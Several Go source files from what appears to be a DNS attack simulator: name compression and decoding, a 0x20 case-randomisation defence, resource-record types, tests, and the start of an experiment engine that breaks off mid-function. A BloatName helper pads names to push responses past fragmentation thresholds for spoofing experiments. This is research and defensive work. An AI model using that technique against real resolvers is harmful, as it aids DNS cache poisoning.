// message-relative to base). Offsets recorded mid-emission may point
// at a name whose tail is not yet written; the bounds check makes
// those compare as unequal, matching the map semantics where only the
// full suffix string was a key.
func nameAtEquals(msg []byte, base, off int, s string) bool {
	j := 0
	for {
		if off >= len(msg) {
			return false
		}
		b := msg[off]
		switch {
		case b == 0:
			return j == len(s)
		case b&0xc0 == 0xc0:
			if off+1 >= len(msg) {
				return false
			}
			off = base + int(b&0x3f)<<8 | int(msg[off+1])
		default:
			l := int(b)
			if len(s)-j < l || off+1+l > len(msg) {
				return false
			}
			for k := 0; k < l; k++ {
				if lowerByte(msg[off+1+k]) != lowerByte(s[j+k]) {
					return false
				}
			}
			j += l
			off += 1 + l
			if j < len(s) {
				if s[j] != '.' {
					return false
				}
				j++
			}
		}
	}
}

// appendName appends the wire encoding of name to msg, compressing
// against earlier occurrences when comp is non-nil. Offsets beyond the
// 14-bit pointer range are stored uncompressed.
func appendName(msg []byte, name string, comp *compressor) ([]byte, error) {
	s := strings.TrimSuffix(name, ".")
	if s == "" {
		return append(msg, 0), nil
	}
	if err := validateName(s); err != nil {
		return nil, err
	}
	for i := 0; i < len(s); {
		if comp != nil {
			if off, ok := comp.lookup(msg, s[i:]); ok {
				return append(msg, 0xc0|byte(off>>8), byte(off)), nil
			}
			comp.record(len(msg))
		}
		l := strings.IndexByte(s[i:], '.')
		if l < 0 {
			l = len(s) - i
		}
		msg = append(msg, byte(l))
		msg = append(msg, s[i:i+l]...)
		i += l + 1
	}
	return append(msg, 0), nil
}

// readName decodes a (possibly compressed) name starting at off,
// returning the canonical name text and the offset just past the name
// in the original (non-pointer-followed) stream. It is AppendName
// through a stack scratch buffer: one string allocation for the
// result, none for the decoding itself.
func readName(msg []byte, off int) (string, int, error) {
	var scratch [MaxNameLen]byte
	b, end, err := AppendName(scratch[:0], msg, off)
	if err != nil {
		return "", 0, err
	}
	if len(b) == 0 {
		return ".", end, nil
	}
	return string(b), end, nil
}

// AppendName decodes a (possibly compressed) wire name starting at
// off, appending its presentation form to dst — one "label." run per
// label, nothing for the root — and returning the extended slice plus
// the offset just past the name in the original (non-pointer-followed)
// stream. It is the allocation-free core under readName: decoding into
// a warmed caller-owned buffer performs zero heap allocations, so
// resident packet paths can walk names without feeding the GC. On
// error the returned slice is dst with unspecified appended content.
//
// Note the root name appends NOTHING (callers that need its canonical
// text "." must special-case an empty append, as readName does).
func AppendName(dst []byte, msg []byte, off int) ([]byte, int, error) {
	start := len(dst)
	jumps := 0
	end := -1 // offset after name in original stream, set at first pointer
	for {
		if off >= len(msg) {
			return dst, 0, fmt.Errorf("%w: name at %d", ErrTruncatedMsg, off)
		}
		b := msg[off]
		switch {
		case b == 0:
			if end < 0 {
				end = off + 1
			}
			return dst, end, nil
		case b&0xc0 == 0xc0:
			if off+1 >= len(msg) {
				return dst, 0, fmt.Errorf("%w: pointer at %d", ErrTruncatedMsg, off)
			}
			if end < 0 {
				end = off + 2
			}
			ptr := int(b&0x3f)<<8 | int(msg[off+1])
			if ptr >= off {
				return dst, 0, fmt.Errorf("%w: forward pointer %d at %d", ErrCompressionLoop, ptr, off)
			}
			off = ptr
			jumps++
			if jumps > 64 {
				return dst, 0, ErrCompressionLoop
			}
		case b&0xc0 != 0:
			return dst, 0, fmt.Errorf("%w: reserved label type %#x", ErrBadName, b&0xc0)
		default:
			l := int(b)
			if off+1+l > len(msg) {
				return dst, 0, fmt.Errorf("%w: label at %d", ErrTruncatedMsg, off)
			}
			// The wire format technically permits '.' inside a label,
			// but the simulator identifies names by their presentation
			// form (CanonicalName), where such a label is
			// indistinguishable from a label split. Reject it so
			// decoding stays injective — a name that parses always
			// re-encodes to the same wire labels.
			if bytes.IndexByte(msg[off+1:off+1+l], '.') >= 0 {
				return dst, 0, fmt.Errorf("%w: '.' inside label", ErrBadName)
			}
			dst = append(dst, msg[off+1:off+1+l]...)
			dst = append(dst, '.')
			// The presentation form of a maximal legal wire name
			// (MaxNameLen octets including the root terminator) is
			// MaxNameLen-1 characters; enforcing the same bound the
			// encoder enforces keeps decode/encode symmetric.
			if len(dst)-start > MaxNameLen-1 {
				return dst, 0, fmt.Errorf("%w: name too long", ErrBadName)
			}
			off += 1 + l
		}
	}
}

// Encode0x20 randomises the case of the alphabetic characters of a
// name using rng — the "0x20 encoding" defence (Dagon et al.): the
// response must echo the exact mixed-case query name, adding up to one
// bit of entropy per letter against blind spoofers.
func Encode0x20(name string, rng *rand.Rand) string {
	b := []byte(name)
	for i, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			if rng.Intn(2) == 1 {
				b[i] = c - 'a' + 'A'
			}
		case c >= 'A' && c <= 'Z':
			if rng.Intn(2) == 1 {
				b[i] = c - 'A' + 'a'
			}
		}
	}
	return string(b)
}

// Entropy0x20 returns the number of entropy bits 0x20 encoding adds to
// a name (one per ASCII letter).
func Entropy0x20(name string) int {
	n := 0
	for _, c := range name {
		if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') {
			n++
		}
	}
	return n
}

// BloatName prepends synthetic labels ("aaaa…") to name until it is as
// close to MaxNameLen as label limits allow — the "bloat query"
// technique from §5.2.2 that enlarges responses past fragmentation
// thresholds. It never produces an invalid name.
func BloatName(name string) string {
	name = CanonicalName(name)
	for {
		room := MaxNameLen - 1 - len(name) // 1 for the new label's length byte
		if room < 2 {
			return name
		}
		l := room - 1
		if l > MaxLabelLen {
			l = MaxLabelLen
		}
		name = strings.Repeat("a", l) + "." + name
	}
}
