package dnswire

import (
	"bufio"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// readNameReference is the pre-AppendName decoder, kept verbatim as the
// equivalence oracle: the append-style rewrite must reproduce its
// output — name text, end offset, and error text — byte for byte on
// every input.
func readNameReference(msg []byte, off int) (string, int, error) {
	var sb strings.Builder
	jumps := 0
	end := -1
	for {
		if off >= len(msg) {
			return "", 0, fmt.Errorf("%w: name at %d", ErrTruncatedMsg, off)
		}
		b := msg[off]
		switch {
		case b == 0:
			if end < 0 {
				end = off + 1
			}
			if sb.Len() == 0 {
				return ".", end, nil
			}
			return sb.String(), end, nil
		case b&0xc0 == 0xc0:
			if off+1 >= len(msg) {
				return "", 0, fmt.Errorf("%w: pointer at %d", ErrTruncatedMsg, off)
			}
			if end < 0 {
				end = off + 2
			}
			ptr := int(b&0x3f)<<8 | int(msg[off+1])
			if ptr >= off {
				return "", 0, fmt.Errorf("%w: forward pointer %d at %d", ErrCompressionLoop, ptr, off)
			}
			off = ptr
			jumps++
			if jumps > 64 {
				return "", 0, ErrCompressionLoop
			}
		case b&0xc0 != 0:
			return "", 0, fmt.Errorf("%w: reserved label type %#x", ErrBadName, b&0xc0)
		default:
			l := int(b)
			if off+1+l > len(msg) {
				return "", 0, fmt.Errorf("%w: label at %d", ErrTruncatedMsg, off)
			}
			if strings.IndexByte(string(msg[off+1:off+1+l]), '.') >= 0 {
				return "", 0, fmt.Errorf("%w: '.' inside label", ErrBadName)
			}
			sb.Write(msg[off+1 : off+1+l])
			sb.WriteByte('.')
			if sb.Len() > MaxNameLen-1 {
				return "", 0, fmt.Errorf("%w: name too long", ErrBadName)
			}
			off += 1 + l
		}
	}
}

// checkNameEquivalence asserts readName (and through it AppendName)
// agrees with the reference decoder on msg at off.
func checkNameEquivalence(t *testing.T, msg []byte, off int) {
	t.Helper()
	wantName, wantEnd, wantErr := readNameReference(msg, off)
	gotName, gotEnd, gotErr := readName(msg, off)
	if (wantErr == nil) != (gotErr == nil) {
		t.Fatalf("readName(%q, %d) err = %v, reference err = %v", msg, off, gotErr, wantErr)
	}
	if wantErr != nil {
		if gotErr.Error() != wantErr.Error() {
			t.Fatalf("readName(%q, %d) err = %q, reference err = %q", msg, off, gotErr, wantErr)
		}
		return
	}
	if gotName != wantName || gotEnd != wantEnd {
		t.Fatalf("readName(%q, %d) = (%q, %d), reference = (%q, %d)",
			msg, off, gotName, gotEnd, wantName, wantEnd)
	}
	// And the exported core: AppendName's bytes are the name text
	// (empty for the root, which readName canonicalises to ".").
	buf, end, err := AppendName(nil, msg, off)
	if err != nil || end != wantEnd {
		t.Fatalf("AppendName(nil, %q, %d) = (_, %d, %v), want (%d, nil)", msg, off, end, err, wantEnd)
	}
	if want := wantName; want == "." {
		if len(buf) != 0 {
			t.Fatalf("AppendName root appended %q, want empty", buf)
		}
	} else if string(buf) != want {
		t.Fatalf("AppendName = %q, want %q", buf, want)
	}
}

// corpusInputs loads every []byte input from a go-fuzz corpus dir.
func corpusInputs(t *testing.T, dir string) [][]byte {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatalf("reading corpus %s: %v", dir, err)
	}
	var out [][]byte
	for _, e := range ents {
		f, err := os.Open(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			line := sc.Text()
			if !strings.HasPrefix(line, "[]byte(") {
				continue
			}
			q := strings.TrimSuffix(strings.TrimPrefix(line, "[]byte("), ")")
			s, err := strconv.Unquote(q)
			if err != nil {
				t.Fatalf("corpus line %q: %v", line, err)
			}
			out = append(out, []byte(s))
		}
		f.Close()
	}
	return out
}

// TestAppendNameEquivalence proves the append-style decoder is
// byte-identical to the strings.Builder implementation it replaced:
// same names, same end offsets, same error text — over the committed
// fuzz corpora, generated packed messages at every offset, and the
// crafted edge cases (pointers, loops, truncations, reserved labels).
func TestAppendNameEquivalence(t *testing.T) {
	var inputs [][]byte
	for _, dir := range []string{
		"testdata/fuzz/FuzzParseName",
		"testdata/fuzz/FuzzParseMessage",
	} {
		inputs = append(inputs, corpusInputs(t, dir)...)
	}
	inputs = append(inputs,
		nil,
		[]byte{0},
		[]byte{0xc0, 0x00},
		[]byte{3, 'w', 'w', 'w', 0xc0, 0x00},
		[]byte{3, 'w', 'w', 'w'}, // truncated mid-name
		[]byte{5, 'w', 'w', 'w'}, // truncated label
		[]byte{0x80, 0x00},       // reserved label type
		[]byte{0x40},             // reserved label type 0x40
		[]byte{0xc0},             // truncated pointer
		[]byte{1, '.', 0},        // '.' inside label
		[]byte{0, 0xc0, 0x00, 0}, // pointer to root
		[]byte{1, 'a', 0, 3, 'w', 'w', 'w', 0xc0, 0x00}, // pointer into earlier name
	)
	// A self-pointing chain that exercises the forward-pointer check
	// and a maximal legal name that sits exactly on the length bound.
	long := appendLongName(nil)
	inputs = append(inputs, long, append(long[:len(long)-1], 1, 'x', 0)) // push past the bound

	rng := rand.New(rand.NewSource(1337))
	for i := 0; i < 64; i++ {
		if wire, err := genMessage(rng).Pack(); err == nil {
			inputs = append(inputs, wire)
		}
	}

	for _, msg := range inputs {
		for off := 0; off <= len(msg); off++ {
			checkNameEquivalence(t, msg, off)
		}
	}
}

// appendLongName builds a wire name whose presentation form is exactly
// MaxNameLen-1 characters (the legal maximum).
func appendLongName(dst []byte) []byte {
	total := 0
	for total+64 <= MaxNameLen-1 {
		dst = append(dst, 63)
		for i := 0; i < 63; i++ {
			dst = append(dst, 'a')
		}
		total += 64
	}
	if rem := MaxNameLen - 1 - total; rem >= 2 {
		dst = append(dst, byte(rem-1))
		for i := 0; i < rem-1; i++ {
			dst = append(dst, 'b')
		}
	}
	return append(dst, 0)
}

// TestAppendNamePreservesPrefix: AppendName must append, never
// clobber — the contract resident decode paths rely on when packing
// several names into one scratch buffer.
func TestAppendNamePreservesPrefix(t *testing.T) {
	wire, err := appendName(nil, "www.vict.im.", nil)
	if err != nil {
		t.Fatal(err)
	}
	dst := append(make([]byte, 0, 64), "prefix|"...)
	out, end, err := AppendName(dst, wire, 0)
	if err != nil {
		t.Fatal(err)
	}
	if got := string(out); got != "prefix|www.vict.im." {
		t.Fatalf("AppendName with prefix = %q", got)
	}
	if end != len(wire) {
		t.Fatalf("end = %d, want %d", end, len(wire))
	}
}
