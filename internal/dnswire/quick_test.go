package dnswire

import (
	"math/rand"
	"net/netip"
	"reflect"
	"testing"
	"testing/quick"
)

// genMessage builds a random-but-valid message for property testing.
func genMessage(rng *rand.Rand) *Message {
	names := []string{"vict.im.", "www.vict.im.", "a.b.c.vict.im.", "atk.example.", "x.Y.Z.example."}
	pick := func() string { return names[rng.Intn(len(names))] }
	m := &Message{
		ID:               uint16(rng.Uint32()),
		Response:         rng.Intn(2) == 1,
		Authoritative:    rng.Intn(2) == 1,
		RecursionDesired: rng.Intn(2) == 1,
		RCode:            RCode(rng.Intn(6)),
		Questions:        []Question{{Name: pick(), Type: TypeA, Class: ClassIN}},
	}
	n := rng.Intn(8)
	for i := 0; i < n; i++ {
		name := pick()
		switch rng.Intn(6) {
		case 0:
			m.Answers = append(m.Answers, NewA(name, uint32(rng.Intn(3600)), netip.AddrFrom4([4]byte{byte(rng.Intn(256)), 2, 3, 4})))
		case 1:
			m.Answers = append(m.Answers, NewMX(name, 60, uint16(rng.Intn(100)), pick()))
		case 2:
			m.Answers = append(m.Answers, NewTXT(name, 60, "some text", "more text"))
		case 3:
			m.Answers = append(m.Answers, NewCNAME(name, 60, pick()))
		case 4:
			m.Answers = append(m.Answers, NewSRV(name, 60, 1, 2, 5269, pick()))
		default:
			m.Answers = append(m.Answers, NewNS(name, 60, pick()))
		}
	}
	if rng.Intn(3) == 0 {
		m.Authority = append(m.Authority, NewSOA(pick(), 300, pick(), pick(), uint32(rng.Uint32())))
	}
	if rng.Intn(3) == 0 {
		m.SetEDNS(uint16(512+rng.Intn(4096)), rng.Intn(2) == 1)
	}
	return m
}

// TestQuickPackUnpackIdentity: for any generated message, unpack(pack(m))
// preserves header, question (byte case included), and the rendered
// form of every record.
func TestQuickPackUnpackIdentity(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	f := func() bool {
		m := genMessage(rng)
		wire, err := m.Pack()
		if err != nil {
			t.Logf("pack: %v", err)
			return false
		}
		out, err := Unpack(wire)
		if err != nil {
			t.Logf("unpack: %v", err)
			return false
		}
		if out.ID != m.ID || out.Response != m.Response || out.RCode != m.RCode ||
			out.Authoritative != m.Authoritative || out.RecursionDesired != m.RecursionDesired {
			return false
		}
		if len(out.Questions) != 1 || out.Questions[0].Name != m.Questions[0].Name {
			return false
		}
		if len(out.Answers) != len(m.Answers) {
			return false
		}
		for i := range m.Answers {
			if out.Answers[i].Type != m.Answers[i].Type ||
				!EqualNames(out.Answers[i].Name, m.Answers[i].Name) ||
				out.Answers[i].Data.String() != m.Answers[i].Data.String() {
				return false
			}
		}
		return true
	}
	if err := quick.Check(func(uint8) bool { return f() }, &quick.Config{MaxCount: 400, Rand: rng}); err != nil {
		t.Fatal(err)
	}
}

// TestQuickDoublePackStable: packing the unpacked message again yields
// identical bytes (a canonical-form property; compression decisions are
// deterministic).
func TestQuickDoublePackStable(t *testing.T) {
	rng := rand.New(rand.NewSource(22))
	for i := 0; i < 300; i++ {
		m := genMessage(rng)
		w1, err := m.Pack()
		if err != nil {
			t.Fatal(err)
		}
		back, err := Unpack(w1)
		if err != nil {
			t.Fatal(err)
		}
		w2, err := back.Pack()
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(w1, w2) {
			t.Fatalf("repack differs (%d vs %d bytes)", len(w1), len(w2))
		}
	}
}
