package dnswire

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"strings"
)

// Type is a DNS RR/query type.
type Type uint16

// RR types used in this repository (Table 1's "Record Type" column).
const (
	TypeA        Type = 1
	TypeNS       Type = 2
	TypeCNAME    Type = 5
	TypeSOA      Type = 6
	TypePTR      Type = 12
	TypeMX       Type = 15
	TypeTXT      Type = 16
	TypeAAAA     Type = 28
	TypeSRV      Type = 33
	TypeNAPTR    Type = 35
	TypeOPT      Type = 41
	TypeIPSECKEY Type = 45
	TypeRRSIG    Type = 46
	TypeDNSKEY   Type = 48
	TypeANY      Type = 255
)

var typeNames = map[Type]string{
	TypeA: "A", TypeNS: "NS", TypeCNAME: "CNAME", TypeSOA: "SOA",
	TypePTR: "PTR", TypeMX: "MX", TypeTXT: "TXT", TypeAAAA: "AAAA",
	TypeSRV: "SRV", TypeNAPTR: "NAPTR", TypeOPT: "OPT",
	TypeIPSECKEY: "IPSECKEY", TypeRRSIG: "RRSIG", TypeDNSKEY: "DNSKEY",
	TypeANY: "ANY",
}

func (t Type) String() string {
	if s, ok := typeNames[t]; ok {
		return s
	}
	return fmt.Sprintf("TYPE%d", uint16(t))
}

// Class is a DNS class; only IN is used.
type Class uint16

// ClassIN is the Internet class.
const ClassIN Class = 1

// RR is a resource record. RData holds the type-specific data as one
// of the concrete RData implementations below.
type RR struct {
	Name  string
	Type  Type
	Class Class
	TTL   uint32
	Data  RData
}

func (rr *RR) String() string {
	return fmt.Sprintf("%s %d IN %s %s", CanonicalName(rr.Name), rr.TTL, rr.Type, rr.Data)
}

// Copy returns a deep-enough copy safe to mutate (cache entries hand
// out copies so TTL adjustment cannot corrupt the cache).
func (rr *RR) Copy() *RR {
	cp := *rr
	return &cp
}

// RData is the type-specific payload of a resource record.
type RData interface {
	// appendTo appends the RDATA wire bytes (no length prefix).
	// Compression inside RDATA is deliberately not used: modern
	// servers avoid it for all types except the legacy ones, and it
	// keeps lengths predictable for the fragmentation experiments.
	appendTo(msg []byte) ([]byte, error)
	String() string
}

// AData is an A record: a single IPv4 address.
type AData struct{ Addr netip.Addr }

func (d *AData) appendTo(msg []byte) ([]byte, error) {
	if !d.Addr.Is4() {
		return nil, fmt.Errorf("dnswire: A record with non-IPv4 address %v", d.Addr)
	}
	a := d.Addr.As4()
	return append(msg, a[:]...), nil
}
func (d *AData) String() string { return d.Addr.String() }

// AAAAData is an AAAA record: a single IPv6 address.
type AAAAData struct{ Addr netip.Addr }

func (d *AAAAData) appendTo(msg []byte) ([]byte, error) {
	if !d.Addr.Is6() {
		return nil, fmt.Errorf("dnswire: AAAA record with non-IPv6 address %v", d.Addr)
	}
	a := d.Addr.As16()
	return append(msg, a[:]...), nil
}
func (d *AAAAData) String() string { return d.Addr.String() }

// NSData is an NS record target.
type NSData struct{ Host string }

func (d *NSData) appendTo(msg []byte) ([]byte, error) { return appendName(msg, d.Host, nil) }
func (d *NSData) String() string                      { return CanonicalName(d.Host) }

// CNAMEData is a CNAME target.
type CNAMEData struct{ Target string }

func (d *CNAMEData) appendTo(msg []byte) ([]byte, error) { return appendName(msg, d.Target, nil) }
func (d *CNAMEData) String() string                      { return CanonicalName(d.Target) }

// PTRData is a PTR target.
type PTRData struct{ Target string }

func (d *PTRData) appendTo(msg []byte) ([]byte, error) { return appendName(msg, d.Target, nil) }
func (d *PTRData) String() string                      { return CanonicalName(d.Target) }

// SOAData is an SOA record.
type SOAData struct {
	MName, RName                            string
	Serial, Refresh, Retry, Expire, Minimum uint32
}

func (d *SOAData) appendTo(msg []byte) ([]byte, error) {
	var err error
	if msg, err = appendName(msg, d.MName, nil); err != nil {
		return nil, err
	}
	if msg, err = appendName(msg, d.RName, nil); err != nil {
		return nil, err
	}
	var b [20]byte
	binary.BigEndian.PutUint32(b[0:], d.Serial)
	binary.BigEndian.PutUint32(b[4:], d.Refresh)
	binary.BigEndian.PutUint32(b[8:], d.Retry)
	binary.BigEndian.PutUint32(b[12:], d.Expire)
	binary.BigEndian.PutUint32(b[16:], d.Minimum)
	return append(msg, b[:]...), nil
}
func (d *SOAData) String() string {
	return fmt.Sprintf("%s %s %d", CanonicalName(d.MName), CanonicalName(d.RName), d.Serial)
}

// MXData is an MX record.
type MXData struct {
	Pref uint16
	Host string
}

func (d *MXData) appendTo(msg []byte) ([]byte, error) {
	msg = binary.BigEndian.AppendUint16(msg, d.Pref)
	return appendName(msg, d.Host, nil)
}
func (d *MXData) String() string { return fmt.Sprintf("%d %s", d.Pref, CanonicalName(d.Host)) }

// TXTData is a TXT record: one or more character strings.
type TXTData struct{ Strings []string }

func (d *TXTData) appendTo(msg []byte) ([]byte, error) {
	if len(d.Strings) == 0 {
		return append(msg, 0), nil
	}
	for _, s := range d.Strings {
		if len(s) > 255 {
			return nil, fmt.Errorf("dnswire: TXT string exceeds 255 bytes")
		}
		msg = append(msg, byte(len(s)))
		msg = append(msg, s...)
	}
	return msg, nil
}
func (d *TXTData) String() string { return `"` + strings.Join(d.Strings, `" "`) + `"` }

// Joined returns the concatenation of the TXT strings — how SPF/DKIM
// consumers interpret multi-string TXT records.
func (d *TXTData) Joined() string { return strings.Join(d.Strings, "") }

// SRVData is an SRV record (RFC 2782), used by XMPP federation.
type SRVData struct {
	Priority, Weight, Port uint16
	Target                 string
}

func (d *SRVData) appendTo(msg []byte) ([]byte, error) {
	msg = binary.BigEndian.AppendUint16(msg, d.Priority)
	msg = binary.BigEndian.AppendUint16(msg, d.Weight)
	msg = binary.BigEndian.AppendUint16(msg, d.Port)
	return appendName(msg, d.Target, nil)
}
func (d *SRVData) String() string {
	return fmt.Sprintf("%d %d %d %s", d.Priority, d.Weight, d.Port, CanonicalName(d.Target))
}

// NAPTRData is a NAPTR record (RFC 3403), used by RADIUS/eduroam
// dynamic peer discovery.
type NAPTRData struct {
	Order, Pref                         uint16
	Flags, Service, Regexp, Replacement string
}

func (d *NAPTRData) appendTo(msg []byte) ([]byte, error) {
	msg = binary.BigEndian.AppendUint16(msg, d.Order)
	msg = binary.BigEndian.AppendUint16(msg, d.Pref)
	for _, s := range []string{d.Flags, d.Service, d.Regexp} {
		if len(s) > 255 {
			return nil, fmt.Errorf("dnswire: NAPTR string exceeds 255 bytes")
		}
		msg = append(msg, byte(len(s)))
		msg = append(msg, s...)
	}
	return appendName(msg, d.Replacement, nil)
}
func (d *NAPTRData) String() string {
	return fmt.Sprintf("%d %d %q %q %q %s", d.Order, d.Pref, d.Flags, d.Service, d.Regexp, CanonicalName(d.Replacement))
}

// IPSECKEYData is an IPSECKEY record (RFC 4025), used by opportunistic
// IPsec (Table 1's IKE row).
type IPSECKEYData struct {
	Precedence  uint8
	GatewayType uint8 // 0 none, 1 IPv4, 3 name
	Algorithm   uint8
	GatewayIP   netip.Addr
	GatewayName string
	PublicKey   []byte
}

func (d *IPSECKEYData) appendTo(msg []byte) ([]byte, error) {
	msg = append(msg, d.Precedence, d.GatewayType, d.Algorithm)
	switch d.GatewayType {
	case 0:
	case 1:
		if !d.GatewayIP.Is4() {
			return nil, fmt.Errorf("dnswire: IPSECKEY gateway type 1 needs IPv4")
		}
		a := d.GatewayIP.As4()
		msg = append(msg, a[:]...)
	case 3:
		var err error
		if msg, err = appendName(msg, d.GatewayName, nil); err != nil {
			return nil, err
		}
	default:
		return nil, fmt.Errorf("dnswire: IPSECKEY gateway type %d unsupported", d.GatewayType)
	}
	return append(msg, d.PublicKey...), nil
}
func (d *IPSECKEYData) String() string {
	gw := "."
	switch d.GatewayType {
	case 1:
		gw = d.GatewayIP.String()
	case 3:
		gw = CanonicalName(d.GatewayName)
	}
	return fmt.Sprintf("%d %d %d %s [%d-byte key]", d.Precedence, d.GatewayType, d.Algorithm, gw, len(d.PublicKey))
}

// RRSIGData is a simplified RRSIG presence marker: it carries the
// covered type and signer name with a fixed-size placeholder signature.
// It exists so signed zones produce realistically sized responses and
// so validating resolvers can check "is this RRset signed by the zone I
// expect"; real cryptography is out of scope (see DESIGN.md §5).
type RRSIGData struct {
	Covered Type
	Signer  string
	// Valid marks the signature as verifying correctly. A spoofed
	// record injected by an attacker without the zone key carries
	// Valid=false, which a validating resolver rejects.
	Valid     bool
	Signature []byte
}

// zeroRData backs the fixed all-zero filler runs in RDATA encodings
// (RRSIG timestamp/keytag placeholder and the synthetic 64-byte
// signature), replacing the per-call make slabs the packer used to
// allocate. Read-only by contract: appendTo only ever copies from it.
var zeroRData [64]byte

func (d *RRSIGData) appendTo(msg []byte) ([]byte, error) {
	msg = binary.BigEndian.AppendUint16(msg, uint16(d.Covered))
	msg = append(msg, 8 /*alg*/, byte(CountLabels(d.Signer)))
	valid := byte(0)
	if d.Valid {
		valid = 1
	}
	msg = append(msg, valid) // placeholder where TTL would start
	msg = append(msg, zeroRData[:15]...)
	var err error
	if msg, err = appendName(msg, d.Signer, nil); err != nil {
		return nil, err
	}
	sig := d.Signature
	if len(sig) == 0 {
		sig = zeroRData[:64]
	}
	return append(msg, sig...), nil
}
func (d *RRSIGData) String() string {
	return fmt.Sprintf("RRSIG(%s) by %s valid=%v", d.Covered, CanonicalName(d.Signer), d.Valid)
}

// OPTData is the EDNS0 pseudo-record (RFC 6891). UDPSize is carried in
// the RR CLASS field; DO in the TTL field.
type OPTData struct {
	UDPSize uint16
	DO      bool // DNSSEC OK
}

func (d *OPTData) appendTo(msg []byte) ([]byte, error) { return msg, nil }
func (d *OPTData) String() string                      { return fmt.Sprintf("EDNS0 udp=%d do=%v", d.UDPSize, d.DO) }

// RawData carries undecoded RDATA for unknown types.
type RawData struct{ Bytes []byte }

func (d *RawData) appendTo(msg []byte) ([]byte, error) { return append(msg, d.Bytes...), nil }
func (d *RawData) String() string                      { return fmt.Sprintf("\\# %d", len(d.Bytes)) }

// Convenience constructors.

// NewA builds an A record.
func NewA(name string, ttl uint32, addr netip.Addr) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeA, Class: ClassIN, TTL: ttl, Data: &AData{Addr: addr}}
}

// NewNS builds an NS record.
func NewNS(name string, ttl uint32, host string) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeNS, Class: ClassIN, TTL: ttl, Data: &NSData{Host: CanonicalName(host)}}
}

// NewCNAME builds a CNAME record.
func NewCNAME(name string, ttl uint32, target string) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeCNAME, Class: ClassIN, TTL: ttl, Data: &CNAMEData{Target: CanonicalName(target)}}
}

// NewMX builds an MX record.
func NewMX(name string, ttl uint32, pref uint16, host string) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeMX, Class: ClassIN, TTL: ttl, Data: &MXData{Pref: pref, Host: CanonicalName(host)}}
}

// NewTXT builds a TXT record.
func NewTXT(name string, ttl uint32, strs ...string) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeTXT, Class: ClassIN, TTL: ttl, Data: &TXTData{Strings: strs}}
}

// NewSRV builds an SRV record.
func NewSRV(name string, ttl uint32, prio, weight, port uint16, target string) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeSRV, Class: ClassIN, TTL: ttl,
		Data: &SRVData{Priority: prio, Weight: weight, Port: port, Target: CanonicalName(target)}}
}

// NewNAPTR builds a NAPTR record.
func NewNAPTR(name string, ttl uint32, order, pref uint16, flags, service, replacement string) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeNAPTR, Class: ClassIN, TTL: ttl,
		Data: &NAPTRData{Order: order, Pref: pref, Flags: flags, Service: service, Replacement: CanonicalName(replacement)}}
}

// NewSOA builds an SOA record with standard timers.
func NewSOA(name string, ttl uint32, mname, rname string, serial uint32) *RR {
	return &RR{Name: CanonicalName(name), Type: TypeSOA, Class: ClassIN, TTL: ttl,
		Data: &SOAData{MName: CanonicalName(mname), RName: CanonicalName(rname), Serial: serial,
			Refresh: 7200, Retry: 900, Expire: 1209600, Minimum: 300}}
}
