// Package engine is the parallel experiment-execution subsystem: it
// decomposes a population-scale experiment (a Job) into independent
// deterministic simulation shards, binds each shard to the function
// that simulates it (a Trial), and executes the trials on a worker
// pool sized by GOMAXPROCS.
//
// The determinism contract every caller relies on:
//
//   - The shard plan (how a population is cut into shards, and each
//     shard's derived seed) depends only on Job.Items, Job.ShardSize
//     and Job.Seed — never on Parallelism or scheduling.
//   - Each trial must be self-contained: its own sim.Clock, its own
//     netsim.Network, its own rand streams, all derived from the
//     shard's seed. Trials share no mutable state.
//   - Results are returned indexed by shard, regardless of the order
//     trials finish in.
//
// Together these guarantee that the same seed produces byte-identical
// merged output for any worker count.
//
// Execution is cancellable: the Ctx variants (RunCtx, ExecuteCtx,
// ParallelCtx) stop dispatching shards once their context is
// cancelled and return its error, so a long population sweep aborts
// at the next shard boundary instead of running to completion.
package engine

import (
	"context"
	"runtime"
	"sync"
	"sync/atomic"
)

// DefaultShardSize is the population-items-per-shard used when a Job
// does not specify one. It balances scheduling granularity against the
// per-shard cost of building a fresh simulated network.
const DefaultShardSize = 256

// DefaultBurst is how many consecutive trials a worker claims per
// visit to the shared dispatch counter (NDN-DPDK's burst size): one
// atomic op amortised over 64 trials instead of one channel rendezvous
// per trial, and consecutive indices keep each worker's result writes
// on adjacent cache lines.
const DefaultBurst = 64

// Shard is one independently simulable slice of a job's population:
// the half-open item range [Start, Start+Count) plus the seed every
// random stream inside the shard must derive from.
type Shard struct {
	Index int // position in the job's shard plan
	Start int // first population item covered
	Count int // number of items covered
	Seed  int64
}

// Job describes a population-scale experiment to be decomposed into
// shards.
type Job struct {
	// Name labels the job in progress reporting (cosmetic).
	Name string
	// Items is the total population size.
	Items int
	// ShardSize caps the items per shard; 0 means DefaultShardSize.
	ShardSize int
	// Seed is the base seed; per-shard seeds are derived from it with
	// DeriveSeed.
	Seed int64
	// Parallelism is the worker count; 0 means GOMAXPROCS. It affects
	// only wall-clock time, never results.
	Parallelism int
	// Burst is how many consecutive trials a worker claims per visit
	// to the dispatch counter; 0 means DefaultBurst. Like Parallelism
	// it affects only scheduling, never results.
	Burst int
	// OnTrialDone, when non-nil, observes trial completions. Calls are
	// serialized and done is monotonic, but which shard completed is
	// deliberately not reported: completion order depends on
	// scheduling.
	OnTrialDone func(done, total int)
}

func (j Job) shardSize() int {
	if j.ShardSize > 0 {
		return j.ShardSize
	}
	return DefaultShardSize
}

func (j Job) burst() int {
	if j.Burst > 0 {
		return j.Burst
	}
	return DefaultBurst
}

// Shards returns the job's deterministic shard plan: contiguous item
// ranges of at most ShardSize items, seeded by DeriveSeed(Seed, index).
func (j Job) Shards() []Shard {
	size := j.shardSize()
